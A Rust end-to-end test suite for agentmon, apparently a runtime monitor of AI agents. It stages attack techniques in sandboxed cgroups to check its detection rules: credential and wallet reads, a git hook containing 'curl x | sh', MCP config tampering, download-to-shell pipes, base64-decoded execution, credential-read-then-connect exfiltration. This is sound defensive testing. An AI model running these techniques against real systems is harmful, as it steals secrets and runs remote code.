//! The agent rules (rules/agent.yaml) on the real kernel: each test performs the technique inside a
//! watched cgroup (`agentmon exec --rules rules/ --rules-maturity sandbox`) with a temporary HOME
//! and temp dirs, asserts the alert by rule name, and runs a benign variant that must not raise it.
//! Network traffic goes only to loopback or to addresses the test assigns to `lo` inside a network
//! namespace it created (`unshare -n`). The two-agent test runs `agentmon run --config` over two
//! uniquely named cgroups of its own.
#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    reason = "test code outside #[test] fns: a failed step fails the test"
)]
use std::{
    os::unix::net::UnixListener,
    path::Path,
    process::{Command, Stdio},
    time::Duration,
};

use agentmon_e2e::{
    ExecRun, TestCgroup, agentmon_bin, agents_config, cgroup_root, exec_rules, serve_http, shipped_rules, wait_for,
};

const PYTHON: &str = "/usr/bin/python3";

/// Every rule on, whatever its maturity ("Base64 decode by agent" is incubating).
const SANDBOX: &[&str] = &["--rules-maturity", "sandbox"];

const SECRET: &str = "Agent secret read by a tool process";
const VAULT: &str = "Browser profile, password store or wallet read";
const SSH_AGENT: &str = "SSH agent socket used by the agent";
const GIT_HOOK: &str = "Git hook written by agent";
const CONFIG: &str = "Agent or MCP configuration modified";
const PIPED: &str = "Download piped into an interpreter";
const B64_RUN: &str = "Base64-decoded payload executed";
const B64_DECODE: &str = "Base64 decode by agent";
const EXFIL: &str = "Credential read then outbound connect";
const LATERAL: &str = "Agent connects to another watched agent's listener";

/// The shipped rules, or a copy named by `AGENTMON_AGENT_RULES` (to check these tests fail when a
/// rule is broken, e.g. renamed in a copy of the rules directory).
fn rules() -> std::path::PathBuf {
    std::env::var_os("AGENTMON_AGENT_RULES").map_or_else(shipped_rules, Into::into)
}

fn tmp(tag: &str) -> tempfile::TempDir {
    tempfile::Builder::new()
        .prefix(&format!("agentmon-agent-{tag}-"))
        .tempdir()
        .unwrap()
}

/// Runs `cmd` as the watched agent with HOME set to `home`.
fn run_cmd(home: &Path, cmd: &[&str]) -> ExecRun {
    let home_env = format!("HOME={}", home.display());
    let mut full = vec!["/usr/bin/env", home_env.as_str()];
    full.extend_from_slice(cmd);
    exec_rules(&rules(), SANDBOX, &full)
}

/// Runs `script` with bash as the watched agent (HOME = `home`); its stdout goes to /dev/null
/// (agentmon's JSON is on the same stdout).
fn run(home: &Path, script: &str) -> ExecRun {
    let script = format!("exec >/dev/null\n{script}");
    run_cmd(home, &["/bin/bash", "-c", &script])
}

fn assert_fired(r: &ExecRun, rule: &str) {
    assert!(
        !r.alerts_of(rule).is_empty(),
        "'{rule}' did not fire\nfired: {:?}\nstderr: {}",
        r.fired(),
        r.stderr
    );
}

fn assert_not_fired(r: &ExecRun, rule: &str) {
    let a = r.alerts_of(rule);
    assert!(a.is_empty(), "'{rule}' fired on the benign variant: {a:#?}");
}

/// The `output` line of each alert of `rule`.
fn outputs(r: &ExecRun, rule: &str) -> Vec<String> {
    r.alerts_of(rule)
        .iter()
        .map(|a| a["output"].as_str().unwrap_or_default().to_string())
        .collect()
}

fn write(path: &Path, text: &str) {
    std::fs::create_dir_all(path.parent().unwrap()).unwrap();
    std::fs::write(path, text).unwrap();
}

#[test]
fn agent_secret_read_by_a_tool_process_but_not_by_the_agent_itself() {
    let home = tmp("secret");
    let key = home.path().join(".openclaw/credentials/provider.json");
    write(&key, r#"{"api_key":"sk-test"}"#);
    write(&home.path().join("proj/.env"), "API_KEY=x\n");
    let k = key.display();
    let h = home.path().display();
    // `; true`: bash would exec its last command in place, and that cat would be the agent root.
    let r = run(home.path(), &format!("cat {k}; cat {h}/proj/.env; true"));
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(&r, SECRET);
    let out = outputs(&r, SECRET);
    for p in [key.display().to_string(), format!("{h}/proj/.env")] {
        assert!(out.iter().any(|o| o.contains(&p)), "{p} not in {out:#?}");
    }
    // Benign: the agent's root process (python itself, no child) reads its own key.
    let code = format!("open('{k}').read()");
    let r = run_cmd(home.path(), &[PYTHON, "-S", "-c", &code]);
    assert!(r.status.success(), "{}", r.stderr);
    assert!(
        r.of_kind("open").iter().any(|e| e["resolved_path"]
            .as_str()
            .is_some_and(|p| p.ends_with("provider.json"))),
        "the agent's own read was not seen (the check would be vacuous)"
    );
    assert_not_fired(&r, SECRET);
}

#[test]
fn browser_profile_password_store_and_wallet_reads() {
    let home = tmp("vault");
    let h = home.path();
    let files = [
        h.join(".mozilla/firefox/abcd.default-release/logins.json"),
        h.join(".password-store/bank.gpg"),
        h.join(".ethereum/keystore/UTC--2024-01-01--abcdef"),
    ];
    for f in &files {
        write(f, "x");
    }
    write(&h.join("notes/browser-notes.txt"), "x");
    let cats: Vec<String> = files.iter().map(|f| format!("cat '{}'", f.display())).collect();
    let cats = cats.join("\n");
    let r = run(h, &cats);
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(&r, VAULT);
    let out = outputs(&r, VAULT);
    for f in &files {
        let p = f.display().to_string();
        assert!(out.iter().any(|o| o.contains(&p)), "{p} not in {out:#?}");
    }
    // Benign: an ordinary file in HOME.
    let r = run(h, &format!("cat {}/notes/browser-notes.txt", h.display()));
    assert!(r.status.success(), "{}", r.stderr);
    assert_not_fired(&r, VAULT);
}

#[test]
fn ssh_agent_socket_used_by_a_non_ssh_program_but_not_by_ssh_add() {
    let dir = tmp("sshsock");
    let home = tmp("sshhome");
    // Named like an ssh-agent socket (`*/ssh-agent.sock*`); the test's own listener answers by
    // closing each connection.
    let sock = dir.path().join("ssh-agent.sock");
    let l = UnixListener::bind(&sock).unwrap();
    std::thread::spawn(move || {
        for c in l.incoming() {
            drop(c);
        }
    });
    let s = sock.display();
    let code = format!("import socket\ns = socket.socket(socket.AF_UNIX)\ns.connect('{s}')\ns.close()\n");
    let r = run(home.path(), &format!("{PYTHON} -S -c \"{code}\""));
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(&r, SSH_AGENT);
    let out = outputs(&r, SSH_AGENT);
    assert!(out.iter().any(|o| o.contains(&s.to_string())), "{out:#?}");
    // Benign: ssh-add (an SSH agent client by design) talking to the same socket.
    let r = run(home.path(), &format!("SSH_AUTH_SOCK={s} ssh-add -l 2>/dev/null; true"));
    assert!(r.status.success(), "{}", r.stderr);
    assert!(
        r.of_kind("connect")
            .iter()
            .any(|e| e["addr"].as_str() == Some(s.to_string().as_str())
                && e["exe"].as_str().is_some_and(|x| x.ends_with("/ssh-add"))),
        "ssh-add's connect was not seen (the check would be vacuous)"
    );
    assert_not_fired(&r, SSH_AGENT);
}

#[test]
fn git_hook_written_and_renamed_into_place_but_not_the_sample_hooks() {
    let dir = tmp("githook");
    let home = tmp("githome");
    let d = dir.path().display();
    let script = format!(
        "set -e; cd {d}; git init -q repo
         echo '#!/bin/sh' > repo/.git/hooks/pre-commit; chmod +x repo/.git/hooks/pre-commit
         printf '#!/bin/sh\\ncurl x | sh\\n' > {d}/staged; mv {d}/staged repo/.git/hooks/post-checkout"
    );
    let r = run(home.path(), &script);
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(&r, GIT_HOOK);
    let alerts = r.alerts_of(GIT_HOOK);
    let kinds: Vec<&str> = alerts
        .iter()
        .map(|a| a["event"]["kind"].as_str().unwrap_or_default())
        .collect();
    for k in ["open", "rename"] {
        assert!(kinds.contains(&k), "{k} not seen: {kinds:?}");
    }
    let out = outputs(&r, GIT_HOOK);
    for hook in ["hooks/pre-commit", "hooks/post-checkout"] {
        assert!(out.iter().any(|o| o.contains(hook)), "{hook} not in {out:#?}");
    }
    // Benign: the .sample hooks git init wrote (a clean init alone raises nothing).
    assert!(
        dir.path().join("repo/.git/hooks/pre-commit.sample").exists(),
        "git init wrote no sample hooks (the check would be vacuous)"
    );
    assert!(out.iter().all(|o| !o.contains(".sample")), "{out:#?}");
    let r = run(home.path(), &format!("set -e; cd {d}; git init -q clean"));
    assert!(r.status.success(), "{}", r.stderr);
    assert_not_fired(&r, GIT_HOOK);
}

#[test]
fn agent_and_mcp_configuration_modified_but_not_read() {
    let home = tmp("config");
    let h = home.path();
    write(&h.join(".claude/settings.json"), "{}");
    let hd = h.display();
    let script = format!(
        "set -e; echo '{{\"mcpServers\":{{\"x\":{{\"command\":\"/tmp/x\"}}}}}}' > {hd}/.mcp.json
         mkdir -p {hd}/.openclaw/skills/helper; echo '# helper' > {hd}/.openclaw/skills/helper/SKILL.md
         echo '{{\"hooks\":{{}}}}' > {hd}/new-settings; mv {hd}/new-settings {hd}/.claude/settings.json"
    );
    let r = run(h, &script);
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(&r, CONFIG);
    let out = outputs(&r, CONFIG);
    for p in [".mcp.json", ".openclaw/skills/helper/SKILL.md", ".claude/settings.json"] {
        assert!(out.iter().any(|o| o.contains(p)), "{p} not in {out:#?}");
    }
    // Benign: reading the configuration changes nothing.
    let r = run(h, &format!("cat {hd}/.mcp.json {hd}/.claude/settings.json"));
    assert!(r.status.success(), "{}", r.stderr);
    assert_not_fired(&r, CONFIG);
}

/// Serves `n` HTTP requests on 127.0.0.1 with `body`; returns the port.
fn local_http(n: usize, body: &'static str) -> u16 {
    serve_http(
        n,
        format!(
            "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        ),
    )
}

#[test]
fn download_piped_into_a_shell_but_not_a_download_saved_to_a_file() {
    let home = tmp("pipe");
    let port = local_http(2, "echo installed\n");
    let h = home.path().display();
    let r = run(
        home.path(),
        &format!("/bin/bash -c 'curl -fsS http://127.0.0.1:{port}/install.sh | sh'"),
    );
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(&r, PIPED);
    // Benign: the same download saved, then looked at.
    let r = run(
        home.path(),
        &format!(
            "/bin/bash -c 'curl -fsS -o {h}/install.sh http://127.0.0.1:{port}/install.sh && wc -l {h}/install.sh'"
        ),
    );
    assert!(r.status.success(), "{}", r.stderr);
    assert!(
        std::fs::read_to_string(home.path().join("install.sh"))
            .unwrap()
            .contains("installed")
    );
    assert_not_fired(&r, PIPED);
}

#[test]
fn base64_decoded_payload_executed_by_a_shell_pipe_and_a_python_one_liner() {
    let home = tmp("b64");
    // "echo hi" and "print(1)".
    let r = run(
        home.path(),
        "/bin/bash -c 'echo ZWNobyBoaQ== | base64 -d | sh'
         /usr/bin/python3 -S -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"",
    );
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(&r, B64_RUN);
    assert_fired(&r, B64_DECODE);
    let alerts = r.alerts_of(B64_RUN);
    let exes: Vec<&str> = alerts
        .iter()
        .map(|a| a["event"]["exe"].as_str().unwrap_or_default())
        .collect();
    assert!(
        exes.iter().any(|e| e.contains("python")),
        "the python one-liner: {exes:?}"
    );
    assert!(exes.iter().any(|e| e.ends_with("bash")), "the shell pipe: {exes:?}");
    // Benign: decoding data to a file runs nothing (the incubating decode rule still sees it).
    let h = home.path().display();
    let r = run(
        home.path(),
        &format!("/bin/bash -c 'echo aGk= | base64 -d > {h}/data.txt'"),
    );
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(&r, B64_DECODE);
    assert_not_fired(&r, B64_RUN);
    // busybox's base64, by a link and by its own name (an Alpine image's `base64`).
    for cmd in [
        format!("ln -s /bin/busybox {h}/base64 && echo aGk= | {h}/base64 -d > {h}/data.txt"),
        format!("echo aGk= | /bin/busybox base64 -d > {h}/data.txt"),
    ] {
        let r = run(home.path(), &format!("/bin/bash -c '{cmd}'"));
        assert!(r.status.success(), "{}", r.stderr);
        assert_fired(&r, B64_DECODE);
        let _ = std::fs::remove_file(format!("{h}/base64"));
    }
}

/// A script for `unshare -n`: `lo` up with 198.51.100.7 (TEST-NET-2, not in `local_cidrs`;
/// 10.255.0.1 would be, so it could not show the rule) assigned, a listener there, then `body`.
fn in_private_netns(home: &Path, body: &str) -> ExecRun {
    let listen = "import socket\ns = socket.socket()\ns.bind(('198.51.100.7', 8443))\ns.listen(1)\n\
                  s.settimeout(10)\nc, _ = s.accept()\nc.close()\n";
    let connect = "import socket, time\nfor i in range(50):\n    try:\n        \
                   socket.create_connection(('198.51.100.7', 8443), timeout=1).close()\n        break\n    \
                   except OSError:\n        time.sleep(0.1)\nelse:\n    raise SystemExit('no listener')\n";
    let script = format!(
        "exec >/dev/null\nset -e; ip link set lo up; ip addr add 198.51.100.7/32 dev lo
         {PYTHON} -S -c \"{listen}\" & l=$!
         {body}
         {PYTHON} -S -c \"{connect}\"
         wait $l"
    );
    run_cmd(home, &["unshare", "-n", "/bin/bash", "-c", &script])
}

#[test]
fn credential_read_then_outbound_connect_but_not_the_connect_alone() {
    let home = tmp("exfil");
    write(
        &home.path().join(".aws/credentials"),
        "[default]\naws_access_key_id=AKIA\n",
    );
    let h = home.path().display();
    let r = in_private_netns(home.path(), &format!("cat {h}/.aws/credentials"));
    assert!(r.status.success(), "{}", r.stderr);
    assert_fired(&r, EXFIL);
    let out = outputs(&r, EXFIL);
    assert!(out.iter().any(|o| o.contains("198.51.100.7:8443")), "{out:#?}");
    // Benign: the same connect without a credential read first.
    let r = in_private_netns(home.path(), "true");
    assert!(r.status.success(), "{}", r.stderr);
    assert!(
        r.of_kind("connect")
            .iter()
            .any(|e| e.to_string().contains("198.51.100.7")),
        "the connect was not seen (the check would be vacuous)"
    );
    assert_not_fired(&r, EXFIL);
}

/// `agentmon run` over two agents of this test's own cgroup; killed on drop.
struct Run(std::process::Child);
impl Drop for Run {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn agent_connects_to_another_watched_agents_listener() {
    let top = TestCgroup::new("lateral");
    let rel = format!("/{}", top.path.strip_prefix(cgroup_root()).unwrap().display());
    let dir = tmp("lateral");
    let cfg = agents_config(dir.path(), &rel, "");
    let a = top.child("agent-a");
    let b = top.child("agent-b");
    let out = dir.path().join("out.jsonl");
    let _run = Run(Command::new(agentmon_bin())
        .args(["run", "--json", "--events", "--rules"])
        .arg(rules())
        .args(SANDBOX)
        .arg("--config")
        .arg(&cfg)
        .stdout(std::fs::File::create(&out).unwrap())
        .stderr(Stdio::null())
        .spawn()
        .unwrap());
    let lines = || -> Vec<serde_json::Value> {
        std::fs::read_to_string(&out)
            .unwrap_or_default()
            .lines()
            .filter_map(|l| serde_json::from_str(l).ok())
            .collect()
    };
    // Agent B listens on loopback (a port file tells the test which); agent A connects to it.
    let port_file = dir.path().join("port");
    let listen = format!(
        "import socket, time\ns = socket.socket()\ns.bind(('127.0.0.1', 0))\ns.listen(8)\n\
         open('{p}.tmp', 'w').write(str(s.getsockname()[1]))\nimport os\nos.rename('{p}.tmp', '{p}')\n\
         s.settimeout(30)\nwhile True:\n    c, _ = s.accept()\n    c.close()\n",
        p = port_file.display()
    );
    // Wait until agentmon watches (its exec events of the cgroups show up); retry the listener
    // start until its listen event is in the output. Its start takes a minute and more in an
    // emulated guest running other tests (`cargo xtask test-vm --full`): the wait is generous.
    let mut listener = None;
    let listened = wait_for(Duration::from_secs(180), || {
        if let Some(mut c) = listener.take() {
            let _ = std::process::Child::kill(&mut c);
            let _ = std::process::Child::wait(&mut c);
        }
        let _ = std::fs::remove_file(&port_file);
        let c = agentmon_e2e::command_in(&b, PYTHON, &["-S", "-c", &listen])
            .spawn()
            .unwrap();
        listener = Some(c);
        let got = wait_for(Duration::from_secs(3), || {
            std::fs::read_to_string(&port_file).is_ok_and(|p| {
                lines()
                    .iter()
                    .any(|e| e["kind"] == "listen" && e.to_string().contains(p.trim()))
            })
        });
        if !got {
            std::thread::sleep(Duration::from_millis(500));
        }
        got
    });
    let mut listener = listener.unwrap();
    assert!(listened, "agent B's listen was never seen: {:#?}", lines());
    let port = std::fs::read_to_string(&port_file).unwrap();
    let connect = format!(
        "import socket\nsocket.create_connection(('127.0.0.1', {}), timeout=5).close()\n",
        port.trim()
    );
    let ok = agentmon_e2e::run_in(&a, PYTHON, &["-S", "-c", &connect]);
    assert!(ok.success());
    // Benign: agent B reaching its own listener is not lateral movement.
    let ok = agentmon_e2e::run_in(&b, PYTHON, &["-S", "-c", &connect]);
    assert!(ok.success());
    let alerts = || -> Vec<serde_json::Value> { lines().into_iter().filter(|e| e["rule"] == LATERAL).collect() };
    let fired = wait_for(Duration::from_secs(10), || !alerts().is_empty());
    let _ = listener.kill();
    let _ = listener.wait();
    let fired_rules: Vec<String> = lines()
        .iter()
        .filter_map(|e| e["rule"].as_str().map(String::from))
        .collect();
    assert!(
        fired,
        "'{LATERAL}' did not fire ({} lines read); fired: {fired_rules:?}",
        lines().len()
    );
    // Let agentmon print anything B's own connect raised, then check it raised nothing.
    std::thread::sleep(Duration::from_secs(1));
    let all = alerts();
    assert!(
        all.iter().all(|x| x["event"]["agent"] == "agent-a"),
        "only agent A's connect: {all:#?}"
    );
    let o = all[0]["output"].as_str().unwrap_or_default();
    assert!(o.contains("agent-b"), "{o}");
}
